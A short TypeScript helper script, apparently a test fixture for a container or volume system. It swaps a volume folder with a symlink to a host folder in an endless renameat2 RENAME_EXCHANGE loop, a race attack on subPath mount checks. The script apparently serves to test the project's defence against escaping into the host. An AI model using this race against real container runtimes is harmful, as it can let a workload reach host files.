/**
 * The attacker of a subPath: exchanges a name with another one as fast as it can, until it is killed. One of them is a
 * folder of the volume, the other a link to a folder of the host.
 *
 *   node swap-with-link.ts NAME OTHER
 */
import { declareCall } from '../../src/host/linux/sys/ffi.ts';

const AT_FDCWD = -100;
const RENAME_EXCHANGE = 2;
const [name = '', other = ''] = process.argv.slice(2);
const exchange = declareCall<[fromFolder: number, from: string, toFolder: number, to: string, flags: number]>(
  'int renameat2(int olddirfd, const char *oldpath, int newdirfd, const char *newpath, unsigned int flags)',
);

exchange(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
process.stdout.write('ready\n');
for (;;) exchange(AT_FDCWD, name, AT_FDCWD, other, RENAME_EXCHANGE);
